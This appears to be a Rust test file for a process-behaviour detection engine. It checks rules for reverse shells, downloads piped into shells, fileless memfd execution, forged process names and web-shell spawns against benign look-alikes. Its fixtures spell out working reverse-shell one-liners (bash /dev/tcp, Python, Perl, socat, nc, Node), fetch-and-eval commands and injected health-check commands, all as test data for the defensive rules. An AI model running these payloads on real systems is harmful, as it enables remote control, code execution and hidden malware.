//! The managed set against what an independent red-team run found it missed or wrongly
//! raised: reverse shells seen only by their command line (another uid, no fd access),
//! pre-fork servers' web shells, health checks in the forms images write them, download
//! shapes beyond `sh -c "curl | sh"`, builds (toolchains, cargo) and loopback traffic.

use super::detect_tests::{ancestor, fired, listener, managed, managed_with, process};
use crate::fixtures;
use crate::model::{Ancestor, FlowPhase, ProcessPhase, ProcessRecord, Record, Scope, Unavailable};

const SEC: u64 = 1_000_000_000;

fn fires(record: ProcessRecord) -> Vec<String> {
    fired(&mut managed(), &[Record::Process(record)], SEC)
}

#[test]
fn reverse_shells_are_seen_by_their_command_line_without_fd_access() {
    for argv in [
        &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.2/443 0>&1"][..],
        &[
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.2\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
        ],
        &[
            "perl",
            "-e",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(443,inet_aton(\"198.51.100.2\")))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};",
        ],
        &["nc", "198.51.100.2", "443", "-e", "/bin/bash"],
        &["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.2 443 > /tmp/f"],
        &["socat", "tcp:198.51.100.2:443", "exec:/bin/bash,pty,stderr"],
        // socat's address keywords are case-insensitive, and the cheat sheets write them
        // in capitals; EXEC gives the shell a socketpair, which PF-REVERSE-SHELL-STDIO no
        // longer counts, so the command line is all that tells.
        &["socat", "TCP:198.51.100.2:443", "EXEC:/bin/bash"],
        &["socat", "TCP4:198.51.100.2:443", "SYSTEM:sh"],
        // A renamed socat (review D3): its address grammar says relay, whatever argv[0],
        // in either order, over TLS too.
        &["/dev/shm/.k", "TCP:198.51.100.2:443", "EXEC:/bin/bash"],
        &["kworker", "exec:sh -li,stderr", "openssl:198.51.100.2:443,verify=0"],
        &["./x", "-d", "tcp4-connect:198.51.100.2:53", "system:'bash -i'"],
    ] {
        // stdio unknown: the collector could not read the fd table (another uid).
        let shell = process(500, argv[0], None, argv);
        let out = fires(shell);
        assert!(
            out.iter().any(|r| r == "PF-REVERSE-SHELL-CMDLINE"),
            "{argv:?}: {out:?}"
        );
    }
    // Benign twins: a Python using a socket and no shell, a script mentioning /dev/tcp in a
    // comment-free check of a file, an nc port check.
    for argv in [
        &[
            "python3",
            "-c",
            "import socket; socket.create_connection((\"10.0.0.1\", 5432)).close()",
        ][..],
        &["nc", "-z", "-w1", "10.0.0.1", "5432"],
        &["ls", "/dev/tcp"],
        // socat forwarding a port, and serving a local socket with a program: no shell
        // on a connection to a peer.
        &["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:10.0.0.7:80"],
        &[
            "socat",
            "UNIX-LISTEN:/run/app.sock,fork",
            "EXEC:/usr/bin/cat",
        ],
    ] {
        let out = fires(process(501, argv[0], None, argv));
        assert!(
            !out.iter().any(|r| r == "PF-REVERSE-SHELL-CMDLINE"),
            "{argv:?}: {out:?}"
        );
    }
}

#[test]
fn a_pre_fork_servers_worker_running_a_shell_is_a_web_shell() {
    let master = ancestor(
        600,
        6000,
        "gunicorn",
        Some("/usr/bin/python3.11"),
        &["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
    );
    let worker = ancestor(
        601,
        6010,
        "gunicorn",
        Some("/usr/bin/python3.11"),
        &["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
    );
    let serving = Record::Listener(listener(600, 6000, 11, FlowPhase::Start));
    let shell = ProcessRecord {
        ancestors: vec![worker, master],
        ..process(
            602,
            "sh",
            Some("/usr/bin/dash"),
            &["sh", "-c", "id;sleep 3"],
        )
    };
    let out = fired(&mut managed_with(&serving), &[Record::Process(shell)], SEC);
    assert_eq!(out, ["PF-SERVER-SPAWNED-SHELL"]);
}

#[test]
fn health_checks_in_the_forms_images_write_them_are_not_web_shells() {
    let app = ancestor(
        700,
        7000,
        "node",
        Some("/usr/bin/node"),
        &["node", "server.js"],
    );
    let serving = Record::Listener(listener(700, 7000, 12, FlowPhase::Start));
    for check in [
        "curl -f http://localhost:3000/healthz || exit 1",
        "curl --fail --silent http://127.0.0.1:3000/health",
        "wget -q --spider http://localhost:8080/actuator/health",
        "wget -qO- http://127.0.0.1:8080/api/status",
    ] {
        let shell = ProcessRecord {
            ancestors: vec![app.clone()],
            ..process(701, "sh", Some("/usr/bin/dash"), &["sh", "-c", check])
        };
        let out = fired(&mut managed_with(&serving), &[Record::Process(shell)], SEC);
        assert!(out.is_empty(), "{check}: {out:?}");
    }
    // Anything after the check, or another host, is not a health check.
    for injected in [
        "curl -f http://localhost:3000/healthz; id",
        "curl -f http://198.51.100.2/healthz | sh",
    ] {
        let shell = ProcessRecord {
            ancestors: vec![app.clone()],
            ..process(702, "sh", Some("/usr/bin/dash"), &["sh", "-c", injected])
        };
        let out = fired(&mut managed_with(&serving), &[Record::Process(shell)], SEC);
        assert!(
            out.iter().any(|r| r == "PF-SERVER-SPAWNED-SHELL"),
            "{injected}: {out:?}"
        );
    }
}

#[test]
fn downloads_into_a_shell_beyond_curl_pipe_sh() {
    let python_pipeline = ancestor(
        800,
        8000,
        "sh",
        Some("/usr/bin/dash"),
        &[
            "sh",
            "-c",
            "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://198.51.100.2/x\").read().decode())' | sh",
        ],
    );
    let fed = ProcessRecord {
        ancestors: vec![python_pipeline],
        ..process(801, "sh", Some("/usr/bin/dash"), &["sh"])
    };
    assert!(fires(fed).iter().any(|r| r == "PF-DOWNLOAD-SHELL"));
    // Not judged: a shell reading a process substitution (tools run their scripts that
    // way, `bash /dev/fd/3`), or a script file.
    for argv in [&["bash", "/dev/fd/63"][..], &["bash", "deploy.sh"]] {
        let shell = process(802, "bash", Some("/usr/bin/bash"), argv);
        assert!(!fires(shell).iter().any(|r| r == "PF-DOWNLOAD-SHELL"));
    }
}

#[test]
fn a_build_raises_nothing() {
    for (comm, exe) in [
        ("cc", "/usr/bin/x86_64-linux-gnu-gcc-12"),
        ("gcc", "/usr/bin/x86_64-linux-gnu-gcc-12"),
        ("as", "/usr/bin/x86_64-linux-gnu-as"),
        ("ld", "/usr/bin/x86_64-linux-gnu-ld.bfd"),
        (
            "cargo",
            "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo",
        ),
    ] {
        let out = fires(process(900, comm, Some(exe), &[comm, "-o", "x", "x.c"]));
        assert!(out.is_empty(), "{comm} {exe}: {out:?}");
    }
}

#[test]
fn a_scan_of_loopback_ports_is_not_judged_and_one_of_another_host_is() {
    let scan = |scope: Scope, remote: [u8; 4]| -> Vec<Record> {
        (0..30u16)
            .map(|i| {
                let mut f = fixtures::flow(1000 + u64::from(i));
                f.scope = scope;
                f.remote_addr = Some(std::net::IpAddr::from(remote));
                f.remote_port = Some(1000 + i);
                Record::Flow(f)
            })
            .collect()
    };
    let local = fired(&mut managed(), &scan(Scope::Local, [127, 0, 0, 1]), SEC);
    assert!(!local.iter().any(|r| r == "PF-PORT-SCAN"), "{local:?}");
    let remote = fired(&mut managed(), &scan(Scope::EastWest, [10, 0, 0, 9]), SEC);
    assert!(remote.iter().any(|r| r == "PF-PORT-SCAN"), "{remote:?}");
}

/// Review (stop 29), failing: PF-DOWNLOAD-SHELL by the pipe names only a downloader
/// writing straight into the shell. One filter between them (`base64 -d`, `gunzip`, `cat`)
/// or a pipeline side run as a group (`{ curl …; :; } | { :; sh; }`, whose forked
/// subshells are each pipe's first end and never exec) hides it, and the parents' command
/// line (a script file's `sh setup.sh`) says nothing.
#[test]
fn a_download_into_a_shell_through_a_filter_or_a_group_is_seen_by_its_pipes() {
    use super::pipe_tests::side;
    // curl -s URL | base64 -d | sh
    let filtered = vec![
        side(501, "curl", false, None, Some(9)),
        side(502, "base64", false, Some(9), Some(10)),
        side(503, "sh", false, Some(10), None),
    ];
    // { curl -s URL; :; } | { :; sh; }
    let grouped = vec![
        side(511, "sh", true, None, Some(19)),
        side(512, "sh", true, Some(19), None),
        side(513, "curl", false, None, Some(19)),
        side(514, "sh", false, Some(19), None),
    ];
    for records in [filtered, grouped] {
        let out = fired(&mut managed(), &records, SEC);
        assert!(
            out.iter().any(|r| r == "PF-DOWNLOAD-SHELL"),
            "{records:?}: {out:?}"
        );
    }
}

/// Without exe access (another uid) a runner deleting its binary and a binary started
/// under another name show only what they chose (comm, argv); the command line that
/// started them tells.
#[test]
fn fd_executions_and_forged_names_are_seen_by_the_launching_command_line() {
    for (rule, argv) in [
        (
            "PF-EXEC-FD-CMDLINE",
            &[
                "/usr/bin/python3",
                "-c",
                "import os,shutil\nshutil.copy('/usr/bin/sleep','/w/x')\nfd=os.open('/w/x',os.O_RDONLY)\nos.unlink('/w/x')\nos.execve(fd,['x','2'],{})",
            ][..],
        ),
        (
            "PF-EXEC-FD-CMDLINE",
            &[
                "python3",
                "-c",
                "import os;f=os.memfd_create('k');os.write(f,open('/tmp/p','rb').read());os.execv('/proc/self/fd/%d'%f,['kworker'])",
            ],
        ),
        (
            "PF-EXEC-FD-CMDLINE",
            &["perl", "-e", "exec {\"/proc/$$/fd/3\"} 'x'"],
        ),
        (
            "PF-ARGV0-FORGED",
            &["sh", "-c", "cp /w/renamed /w/xmrig && bash -c 'exec -a awk /w/xmrig'"],
        ),
        ("PF-ARGV0-FORGED", &["bash", "-c", "exec -a '[kswapd0]' ./miner"]),
    ] {
        let out = fires(process(700, argv[0], None, argv));
        assert!(out.iter().any(|r| r == rule), "{argv:?}: {out:?}");
    }
    for argv in [
        &[
            "python3",
            "-c",
            "import os; os.execv('/usr/bin/sleep', ['sleep', '1'])",
        ][..],
        &["bash", "-c", "exec sleep 1"],
        &["bash", "-c", "exec 3</dev/null; exec -- sleep 1"],
        &["diff", "/dev/fd/63", "/dev/fd/62"],
        &["sh", "-c", "exec /usr/bin/env -i PATH=/bin sh"],
    ] {
        let out = fires(process(701, argv[0], None, argv));
        assert!(
            !out.iter()
                .any(|r| r == "PF-EXEC-FD-CMDLINE" || r == "PF-ARGV0-FORGED"),
            "{argv:?}: {out:?}"
        );
    }
}

/// Without fd access a pipeline in a script file shows no pipe and no telling command
/// line: its commands are children of one shell, running side by side. A downloader to
/// stdout beside a shell reading stdin is the download into a shell, one alert whichever
/// of the two the engine sees exec'd last; a download beside grep, a file read into a
/// shell, a download to a file beside a shell running a script, and the same processes
/// under two parents are not.
#[test]
fn a_scripts_download_into_a_shell_is_seen_by_its_siblings_without_fd_access() {
    let script = ancestor(800, 8000, "sh", None, &["sh", "setup.sh"]);
    let child = |pid: u32, argv: &[&str], parent: &crate::model::Ancestor| ProcessRecord {
        ppid: parent.pid,
        parent_start_time: Some(parent.start_time),
        exe_unavailable: Unavailable::PermissionDenied,
        ancestors: vec![parent.clone()],
        ..process(pid, argv[0], None, argv)
    };
    let wget = child(801, &["wget", "-qO-", "http://203.0.113.9/x.sh"], &script);
    let bash = child(802, &["bash"], &script);
    // The downloader still a fork of the script when the shell's exec is read, and the
    // other way round; its exec, then the shell's exit.
    let forked = |p: &ProcessRecord| ProcessRecord {
        forked_no_exec: true,
        argv: script.argv.clone(),
        comm: b"sh".to_vec(),
        ..p.clone()
    };
    let exec = |p: &ProcessRecord| ProcessRecord {
        phase: ProcessPhase::Exec,
        ..p.clone()
    };
    for (first, second) in [(&wget, &bash), (&bash, &wget)] {
        let records = [
            Record::Process(forked(first)),
            Record::Process(forked(second)),
            Record::Process(exec(first)),
            Record::Process(exec(second)),
        ];
        let out = fired(&mut managed(), &records, SEC);
        let here = out
            .iter()
            .filter(|r| *r == "PF-DOWNLOAD-SHELL-SIBLINGS")
            .count();
        assert_eq!(here, 1, "{out:?}");
    }
    // A pipeline the parent's command line shows is PF-DOWNLOAD-SHELL's alone.
    let typed = ancestor(
        850,
        8500,
        "sh",
        None,
        &["sh", "-c", "wget -qO- http://x/y | bash"],
    );
    let (w, b) = (
        child(851, &["wget", "-qO-", "http://x/y"], &typed),
        child(852, &["bash"], &typed),
    );
    let out = fired(
        &mut managed(),
        &[Record::Process(w), Record::Process(b)],
        SEC,
    );
    assert_eq!(out, ["PF-DOWNLOAD-SHELL"], "one rule for one pipeline");
    // A parent whose command line pipes a downloader into something else than a shell,
    // and runs the real `curl | sh` by eval: PF-DOWNLOAD-SHELL does not see it in the
    // command line, so the siblings rule must judge it. Before, any `curl … |` in the
    // parent's command line excepted it, and neither rule fired.
    let decoy = ancestor(
        860,
        8600,
        "sh",
        None,
        &[
            "sh",
            "-c",
            "curl -so /dev/null http://x/ok | true; eval \"$RUN\"",
        ],
    );
    let (c, s) = (
        child(861, &["curl", "-s", "http://203.0.113.9/x.sh"], &decoy),
        child(862, &["sh"], &decoy),
    );
    let out = fired(
        &mut managed(),
        &[Record::Process(c), Record::Process(s)],
        SEC,
    );
    assert_eq!(
        out,
        ["PF-DOWNLOAD-SHELL-SIBLINGS"],
        "a decoy pipe in the parent"
    );
    let other = ancestor(900, 9000, "sh", None, &["sh", "other.sh"]);
    for (what, a, b) in [
        (
            "curl | grep",
            child(811, &["curl", "-fsS", "http://203.0.113.9/x"], &script),
            child(812, &["grep", "-q", "sleep"], &script),
        ),
        (
            "cat | sh",
            child(821, &["cat", "local.sh"], &script),
            child(822, &["sh"], &script),
        ),
        (
            "wget to a file beside sh x.sh",
            child(831, &["wget", "-q", "http://203.0.113.9/x.sh"], &script),
            child(832, &["sh", "x.sh"], &script),
        ),
        (
            "two parents",
            child(841, &["curl", "-fsS", "http://203.0.113.9/x"], &script),
            child(842, &["sh"], &other),
        ),
    ] {
        let out = fired(
            &mut managed(),
            &[Record::Process(a), Record::Process(b)],
            SEC,
        );
        assert!(
            !out.iter().any(|r| r == "PF-DOWNLOAD-SHELL-SIBLINGS"),
            "{what}: {out:?}"
        );
    }
}

/// The managed set with rules/host, as `make run` loads it (the managed set, then that
/// directory's rules and exceptions).
fn host() -> crate::rules::Engine {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/host");
    crate::rules::Engine::new(crate::rules::RuleSet::load(Some(&dir), true).expect("rules/host"))
}

/// `make run` watches a host, not a pod: rules/host expects the host's own package
/// upgrades (no container in their cgroup) and still alerts on one inside a container.
#[test]
fn the_local_runs_host_rules_expect_the_hosts_package_upgrades_only() {
    let apt = ProcessRecord {
        uid: 0,
        euid: 0,
        ..process(900, "apt-get", None, &["apt-get", "install", "-y", "less"])
    };
    let in_container = ProcessRecord {
        container_id: Some("4f1c".repeat(16)),
        ..apt.clone()
    };
    let package = |e: &mut crate::rules::Engine, r: &ProcessRecord| {
        fired(e, &[Record::Process(r.clone())], SEC)
            .iter()
            .any(|r| r == "PF-PACKAGE-MANAGER")
    };
    assert!(
        package(&mut managed(), &apt),
        "the managed set alone alerts"
    );
    assert!(!package(&mut host(), &apt), "the host's own upgrade");
    assert!(package(&mut host(), &in_container), "one in a container");
}

/// Containers whose cgroup names no container id the collector knows (LXD/Incus's
/// `lxc.payload.NAME`, systemd-nspawn's `machine.slice`), and a host user's own installs,
/// are not the host administrator's upgrades: rules/host expects root's only. Before, the
/// exception was any process without a container id, so `apt-get` run by an unprivileged
/// LXD container's root (host uid 1000000) or `pip install` by a host user raised nothing.
#[test]
fn the_local_runs_host_rules_alert_on_a_package_manager_in_an_unnamed_container() {
    let mut host = host();
    for cgroup in [
        &b"0::/lxc.payload.web/system.slice/apt-daily-upgrade.service\n"[..],
        b"0::/machine.slice/systemd-nspawn@deb.service/payload/system.slice/x.service\n",
    ] {
        let identity = crate::procs::parse::parse_cgroup(cgroup);
        assert_eq!(
            identity.container_id, None,
            "the collector names no container"
        );
    }
    let lxd_root = ProcessRecord {
        uid: 1_000_000,
        euid: 1_000_000,
        ..process(900, "apt-get", None, &["apt-get", "install", "-y", "nmap"])
    };
    let users_pip = process(910, "pip", None, &["pip", "install", "--user", "x"]);
    for p in [lxd_root, users_pip] {
        let out = fired(&mut host, &[Record::Process(p.clone())], SEC);
        assert!(
            out.iter().any(|r| r == "PF-PACKAGE-MANAGER"),
            "{p:?}: {out:?}"
        );
    }
}

/// A build in /tmp (a `mktemp -d` checkout) on the host `make run` watches: cargo runs the
/// crate's build script and its tests from target/ there. rules/host expects executions a
/// build tool started; the managed set alone, a hand-run binary, and a payload under a
/// fake build tool in /tmp still alert.
#[test]
fn the_local_runs_host_rules_expect_a_builds_own_executions_in_tmp() {
    let script = "/tmp/tmp.Ldk/demo/target/debug/build/demo-40c6/build-script-build";
    let run_by = |parent: Ancestor| ProcessRecord {
        ancestors: vec![
            parent,
            ancestor(40, 400, "bash", Some("/usr/bin/bash"), &["bash"]),
        ],
        ..process(500, "build-script-bu", Some(script), &[script])
    };
    let cargo = ancestor(
        90,
        900,
        "cargo",
        Some("/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo"),
        &["cargo", "build"],
    );
    let tmp_exec = |e: &mut crate::rules::Engine, p: &ProcessRecord| {
        fired(e, &[Record::Process(p.clone())], SEC)
            .iter()
            .any(|r| r == "PF-EXEC-TMP")
    };
    assert!(
        tmp_exec(&mut managed(), &run_by(cargo.clone())),
        "managed alone"
    );
    assert!(
        !tmp_exec(&mut host(), &run_by(cargo.clone())),
        "cargo's build script"
    );
    let make = ancestor(91, 910, "make", Some("/usr/bin/make"), &["make", "check"]);
    let sh = ancestor(
        92,
        920,
        "sh",
        Some("/usr/bin/dash"),
        &["/bin/sh", "-c", "./t"],
    );
    let under_make = ProcessRecord {
        ancestors: vec![sh, make],
        ..run_by(cargo.clone())
    };
    assert!(!tmp_exec(&mut host(), &under_make), "a make recipe's shell");
    for parent in [
        ancestor(93, 930, "bash", Some("/usr/bin/bash"), &["bash"]),
        ancestor(94, 940, "make", Some("/tmp/.x/make"), &["make"]),
        ancestor(95, 950, "cargo", Some("/dev/shm/cargo"), &["cargo"]),
        ancestor(
            96,
            960,
            "cargo",
            Some("/root/.cargo/bin/cargo (deleted)"),
            &["cargo"],
        ),
        ancestor(97, 970, "cargo", None, &["cargo"]),
    ] {
        assert!(tmp_exec(&mut host(), &run_by(parent.clone())), "{parent:?}");
    }
}

/// `cargo run` in a /tmp checkout: cargo (through rustup's proxy) execs the program it built
/// in its own place, so no build tool is its ancestor; rules/host reads the image it ran
/// before (`proc.exec_from`). A shell exec'ing into a /tmp program still alerts, and so does
/// a new process of the same pid.
#[test]
fn the_local_runs_host_rules_expect_cargo_run_exec_ing_its_program_in_tmp() {
    let program = "/tmp/tmp.Ldk/demo/target/debug/demo";
    let toolchain = "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo";
    let bash = ancestor(40, 400, "bash", Some("/usr/bin/bash"), &["bash"]);
    let image = |phase, comm: &str, exe: &str, argv: &[&str]| ProcessRecord {
        phase,
        ancestors: vec![bash.clone()],
        ..process(981, comm, Some(exe), argv)
    };
    let cargo_run = [
        image(
            ProcessPhase::Start,
            "cargo",
            "/root/.cargo/bin/rustup",
            &["cargo", "run"],
        ),
        image(ProcessPhase::Exec, "cargo", toolchain, &[toolchain, "run"]),
        image(ProcessPhase::Exec, "demo", program, &[program]),
    ];
    let tmp_exec = |e: &mut crate::rules::Engine, records: &[ProcessRecord]| {
        let records: Vec<Record> = records.iter().cloned().map(Record::Process).collect();
        fired(e, &records, SEC).iter().any(|r| r == "PF-EXEC-TMP")
    };
    assert!(tmp_exec(&mut managed(), &cargo_run), "managed alone");
    assert!(!tmp_exec(&mut host(), &cargo_run), "cargo run on the host");
    let shell_exec = [
        image(ProcessPhase::Start, "bash", "/usr/bin/bash", &["bash"]),
        image(ProcessPhase::Exec, "demo", program, &[program]),
    ];
    assert!(
        tmp_exec(&mut host(), &shell_exec),
        "a shell exec'ing into /tmp"
    );
    // The same pid reused by another process: what cargo was is forgotten.
    let reused = ProcessRecord {
        start_time: 99_999,
        ..image(ProcessPhase::Start, "demo", program, &[program])
    };
    let mut e = host();
    assert!(!tmp_exec(&mut e, &cargo_run[..2]));
    assert!(tmp_exec(&mut e, &[reused]), "a new process of the same pid");
}

/// A script's `curl … | bash -s -- --yes` and `curl … | python3 -`, judged from the
/// siblings without fd access: the shell reading its program from stdin with arguments
/// after `-s`, and an interpreter told `-` for stdin. Before, any word after the shell's
/// options hid the pipeline. `| bash -c …` and `| python3 -c …` still do not match.
#[test]
fn a_scripts_download_into_bash_s_or_python_dash_is_seen_by_its_siblings() {
    let script = ancestor(800, 8000, "sh", None, &["sh", "install.sh"]);
    let child = |pid: u32, argv: &[&str]| ProcessRecord {
        ppid: script.pid,
        parent_start_time: Some(script.start_time),
        exe_unavailable: Unavailable::PermissionDenied,
        ancestors: vec![script.clone()],
        ..process(pid, argv[0], None, argv)
    };
    let siblings = |reader: &[&str]| {
        let curl = child(801, &["curl", "-fsSL", "http://203.0.113.9/x"]);
        let reader = child(802, reader);
        fired(
            &mut managed(),
            &[Record::Process(curl), Record::Process(reader)],
            SEC,
        )
        .iter()
        .filter(|r| *r == "PF-DOWNLOAD-SHELL-SIBLINGS")
        .count()
    };
    for reader in [
        &["bash", "-s", "--", "--yes"][..],
        &["sh", "-s", "stable"],
        &["python3", "-"],
        &["bash", "-x", "-s"],
    ] {
        assert_eq!(siblings(reader), 1, "{reader:?}");
    }
    for reader in [
        &["bash", "-c", "tar xz"][..],
        &[
            "python3",
            "-c",
            "import json,sys; print(json.load(sys.stdin))",
        ],
        &["python3", "-m", "json.tool"],
        &["sh", "x.sh"],
    ] {
        assert_eq!(siblings(reader), 0, "{reader:?}");
    }
}

/// An interpreter one-liner that fetches code and runs it, with no downloader or shell
/// process to see: seen by its command line in either access mode. Its twins — a
/// one-liner health check printing a status, a download to a file — are not.
#[test]
fn an_interpreter_running_what_it_downloads_is_seen_by_its_command_line() {
    let rule = "PF-DOWNLOAD-EXEC-CMDLINE";
    let denied = |p: ProcessRecord| ProcessRecord {
        exe_unavailable: Unavailable::PermissionDenied,
        exe: None,
        ..p
    };
    for (comm, argv) in [
        ("python3", &["python3", "-c", "import urllib.request; exec(urllib.request.urlopen('http://203.0.113.9/x.py').read())"][..]),
        ("python3.11", &["/usr/bin/python3.11", "-c", "import requests,os; os.system(requests.get('http://x/s').text)"]),
        ("perl", &["perl", "-MLWP::Simple", "-e", "eval get 'http://203.0.113.9/x.pl'"]),
        ("node", &["node", "-e", "require('http').get('http://x/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"]),
        ("php", &["php", "-r", "eval(file_get_contents('http://203.0.113.9/x'));"]),
    ] {
        let p = denied(process(700, comm, None, argv));
        assert!(fires(p).iter().any(|r| r == rule), "{argv:?}");
    }
    for argv in [
        &["python3", "-c", "import urllib.request; print(urllib.request.urlopen('http://localhost:8000/health').status)"][..],
        &["python3", "-c", "import urllib.request; urllib.request.urlretrieve('http://x/a.tgz', 'a.tgz')"],
        &["python3", "-c", "import subprocess; subprocess.run(['make'])"],
        &["node", "-e", "require('http').get('http://localhost:3000/ready', r => process.exit(r.statusCode == 200 ? 0 : 1))"],
    ] {
        let p = denied(process(701, argv[0], None, argv));
        assert!(!fires(p).iter().any(|r| r == rule), "{argv:?}");
    }
}

/// Reverse shells whose command line hands the shell its socket through subprocess (not
/// dup2) or Node's net.Socket: seen without fd access. Before, neither matched.
#[test]
fn reverse_shells_through_subprocess_or_node_sockets_are_seen_by_their_command_line() {
    for argv in [
        &[
            "python3",
            "-c",
            "import socket,subprocess;s=socket.socket();s.connect((\"198.51.100.2\",443));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
        ][..],
        &[
            "node",
            "-e",
            "var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(443,\"198.51.100.2\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});",
        ],
    ] {
        let p = ProcessRecord {
            exe_unavailable: Unavailable::PermissionDenied,
            ..process(600, argv[0], None, argv)
        };
        assert!(
            fires(p).iter().any(|r| r == "PF-REVERSE-SHELL-CMDLINE"),
            "{argv:?}"
        );
    }
}

/// Fileless execution by Perl (memfd_create called by its number, the descriptor's path
/// built from variables) and by Python through an f-string path: seen by the runner's
/// command line without exe access. Before, neither matched.
#[test]
fn memfd_runners_calling_by_number_or_building_the_path_are_seen_by_their_command_line() {
    for argv in [
        &[
            "perl",
            "-e",
            "my $n=\"\"; my $fd=syscall(319,$n,0); open(my $o,\">&=\",$fd); print $o `cat /tmp/x`; exec {\"/proc/$$/fd/$fd\"} \"dbus\",\"2\"",
        ][..],
        &[
            "python3",
            "-c",
            "import os,ctypes; fd=ctypes.CDLL(None).syscall(319,b'x',0); os.write(fd,open('/tmp/x','rb').read()); os.execv(f\"/proc/self/fd/{fd}\", ['x'])",
        ],
    ] {
        let p = ProcessRecord {
            exe_unavailable: Unavailable::PermissionDenied,
            ..process(610, argv[0], None, argv)
        };
        assert!(
            fires(p).iter().any(|r| r == "PF-EXEC-FD-CMDLINE"),
            "{argv:?}"
        );
    }
    // A descriptor read, not executed; a number that is not a syscall's.
    for argv in [
        &["sh", "-c", "cat /proc/self/fd/0 > out"][..],
        &["python3", "-c", "print(319)"],
    ] {
        let p = process(611, argv[0], None, argv);
        assert!(
            !fires(p).iter().any(|r| r == "PF-EXEC-FD-CMDLINE"),
            "{argv:?}"
        );
    }
}

/// A virtual environment made in a temporary directory (`python3 -m venv /tmp/x`, a CI
/// job's): its interpreter, a link to the system's Python, runs as `/tmp/x/bin/python3`
/// and so do its tools' shebangs. Without exe access that argv[0] is all there is; it is
/// not an execution from a scratch path. Before, PF-EXEC-TMP-ARGV fired on every venv in
/// /tmp for a collector of another uid. A payload beside it under another name still does.
#[test]
fn a_virtual_environments_interpreter_in_tmp_is_not_a_scratch_execution_without_exe_access() {
    let denied = |comm: &str, argv: &[&str]| ProcessRecord {
        exe_unavailable: Unavailable::PermissionDenied,
        ..process(620, comm, None, argv)
    };
    for (comm, argv) in [
        (
            "python3",
            &["/tmp/tmp.x1/venv/bin/python3", "-Im", "ensurepip"][..],
        ),
        (
            "pip",
            &[
                "/tmp/ci/.venv/bin/python",
                "/tmp/ci/.venv/bin/pip",
                "install",
                "-r",
                "req.txt",
            ],
        ),
        (
            "pytest",
            &["/var/tmp/v/bin/python3.11", "/var/tmp/v/bin/pytest"],
        ),
    ] {
        let out = fires(denied(comm, argv));
        assert!(
            !out.iter().any(|r| r == "PF-EXEC-TMP-ARGV"),
            "{argv:?}: {out:?}"
        );
    }
    for argv in [&["/tmp/tmp.x1/venv/bin/agent"][..], &["/tmp/python3"]] {
        let out = fires(denied("agent", argv));
        assert!(
            out.iter().any(|r| r == "PF-EXEC-TMP-ARGV"),
            "{argv:?}: {out:?}"
        );
    }
}

/// The health check forms that send curl's or wget's output to /dev/null (`-o /dev/null`,
/// `-w '%{http_code}'`, `-qO /dev/null`, `>/dev/null 2>&1`) or leave out the scheme, and
/// Python's multiprocessing starting workers from a serving process (spawn, forkserver,
/// its resource tracker: uvicorn's `--workers`), are not web shells. Before, each fired.
/// Injected commands in the same shapes still do.
#[test]
fn quiet_health_checks_and_multiprocessing_workers_are_not_web_shells() {
    let app = ancestor(
        710,
        7100,
        "python3",
        Some("/usr/bin/python3.11"),
        &[
            "/usr/bin/python3",
            "/usr/local/bin/uvicorn",
            "app:app",
            "--workers",
            "2",
        ],
    );
    let serving = Record::Listener(listener(710, 7100, 13, FlowPhase::Start));
    let child = |argv: &[&str]| {
        let comm = if argv[0].contains("python") {
            "python3"
        } else {
            "sh"
        };
        ProcessRecord {
            ancestors: vec![app.clone()],
            ..process(711, comm, None, argv)
        }
    };
    let web_shell = |argv: &[&str]| {
        fired(
            &mut managed_with(&serving),
            &[Record::Process(child(argv))],
            SEC,
        )
        .iter()
        .any(|r| r == "PF-SERVER-SPAWNED-SHELL")
    };
    for check in [
        "curl -fsS -o /dev/null http://localhost:8000/healthz",
        "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/ready",
        "wget -qO /dev/null http://127.0.0.1:8000/health",
        "curl -sf localhost:8000/health >/dev/null 2>&1",
        "curl -sf http://localhost:8000/health > /dev/null || exit 1",
    ] {
        assert!(!web_shell(&["/bin/sh", "-c", check]), "{check}");
    }
    for workers in [
        &["/usr/bin/python3", "-B", "-c", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)", "--multiprocessing-fork"][..],
        &["/usr/bin/python3", "-c", "from multiprocessing.resource_tracker import main;main(4)"],
        &["/usr/local/bin/python3.12", "-c", "from multiprocessing.forkserver import main; main(5, 6, ['__main__'], **{'sys_path': ['/app', '/usr/lib/python3.12'], 'main_path': '/app/main.py'})"],
    ] {
        assert!(!web_shell(workers), "{workers:?}");
    }
    for injected in [
        &["/bin/sh", "-c", "curl -s -o /dev/null http://localhost:8000/health; id"][..],
        &["/bin/sh", "-c", "curl -s -o /tmp/x http://localhost:8000/health"],
        &["/usr/bin/python3", "-c", "from multiprocessing.spawn import spawn_main; import os; os.system('id')"],
        &["/usr/bin/python3", "-c", "from multiprocessing.forkserver import main; main(5, 6, [], **{'x': __import__('os').system('id')})"],
    ] {
        assert!(web_shell(injected), "{injected:?}");
    }
}
